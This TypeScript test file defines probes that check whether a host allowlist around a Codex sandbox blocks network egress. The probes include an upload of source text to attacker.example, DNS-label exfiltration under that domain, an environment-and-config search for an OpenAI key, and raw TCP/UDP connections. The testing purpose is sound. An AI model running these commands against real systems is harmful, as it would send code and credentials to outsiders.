/**
 * 21 probes after the vendor's example of Codex in a Cloudflare sandbox (cloudflare/sandbox-sdk,
 * examples/codex-app-server): an allowed host with the credential added outside, blocked hosts, uploads, raw
 * TCP, DNS, the certificate authority. A list of host names can pass them. The example's own script has
 * fewer; we added ports, programs and DNS after what its README promises.
 */
import { refs } from '../attacks/attack.ts';
import {
  bashConnect,
  curl,
  nodeConnect,
  nodeDatagram,
  notGranted,
  script,
  tcp,
  udp,
  unreachable,
  type Group,
  type Place,
} from '../probe.ts';
import { validRequest } from '../attacks/openai-request.ts';

/** A documentation address (RFC 5737), so that a leak reaches no host. */
const address = '192.0.2.10';
const upload = 'const everyLine = "of the source";\n';

export const cloudflareExample: Group = {
  name: 'cloudflare-example',
  about: 'what a list of host names can do, after the vendor’s own example',
  probes: (place: Place) => [
    ...(['http', 'https'] as const).flatMap((scheme) => [
      curl(
        `${scheme}-openai`,
        `the model over ${scheme.toUpperCase()}, with a placeholder for a key: the real one is added outside`,
        [
          '-H',
          'authorization: Bearer placeholder',
          '-H',
          'content-type: application/json',
          `${scheme}://api.openai.com/v1/responses`,
        ],
        ['200'],
        { body: { text: JSON.stringify(validRequest('hello')) }, reachesUpstream: true, lane: 'openai' },
      ),
      curl(
        `${scheme}-github`,
        `fetch of the task’s repository over ${scheme.toUpperCase()}`,
        [`${scheme}://github.com${refs}`],
        ['200'],
        {
          reachesUpstream: true,
        },
      ),
      curl(
        `${scheme}-example`,
        `a host that is not listed, over ${scheme.toUpperCase()}`,
        [`${scheme}://example.com/?${place.marker}`],
        notGranted,
      ),
      curl(
        `${scheme}-httpbin`,
        `another one, over ${scheme.toUpperCase()}`,
        [`${scheme}://httpbin.org/get?${place.marker}`],
        notGranted,
      ),
      curl(
        `${scheme}-upload`,
        `POST of the source to a stranger over ${scheme.toUpperCase()}`,
        ['-H', 'content-type: text/plain', `${scheme}://attacker.example/upload`],
        notGranted,
        { body: { repeat: upload, times: 1_000, before: place.marker } },
      ),
    ]),
    script(
      'refusal-body',
      'the body of a refusal: fixed text, no library’s and no upstream’s',
      'bash',
      `test "$(curl -s https://example.com/)" = '{"error":{"message":"Airlock: example.com is not one of the hosts this task may reach","type":"airlock_egress","code":"host.not-granted","param":null}}' && echo fixed || curl -s https://example.com/`,
      ['fixed'],
    ),
    script(
      'key-absent',
      'the OpenAI key in the environment and in Codex’s settings',
      'bash',
      'env && ls -A /home/codex/.codex && find /home/codex/.codex -name "*.toml" -exec cat {} + && echo looked',
      ['nothing secret'],
      { searched: true },
    ),
    ...[80, 443, 8080].flatMap((port) => [
      script(
        `bash-tcp-${port}`,
        `raw TCP to an address, port ${port}, from Bash`,
        'bash',
        bashConnect,
        unreachable,
        { target: tcp(address, port) },
      ),
      script(
        `node-tcp-${port}`,
        `raw TCP to an address, port ${port}, from Node`,
        'node',
        nodeConnect,
        unreachable,
        { target: tcp(address, port) },
      ),
    ]),
    script(
      'dns-answer',
      'a name of the attacker’s zone: data in the labels',
      'bash',
      `getent ahosts ${place.marker}.attacker.example | cut -d' ' -f1 | sort -u`,
      ['127.0.0.1'],
    ),
    script('dns-server', 'a name server of the attacker’s, over UDP', 'node', nodeDatagram, unreachable, {
      target: udp('192.0.2.53', 53),
    }),
    script(
      'ca-present',
      'HTTPS works with the gateway’s certificate authority and with no other',
      'bash',
      'grep -c "BEGIN CERTIFICATE" "$SSL_CERT_FILE"; curl -s -o /dev/null https://example.com/ && ! curl -s -o /dev/null --cacert /dev/null https://example.com/ && echo trusted',
      ['trusted'],
    ),
  ],
};
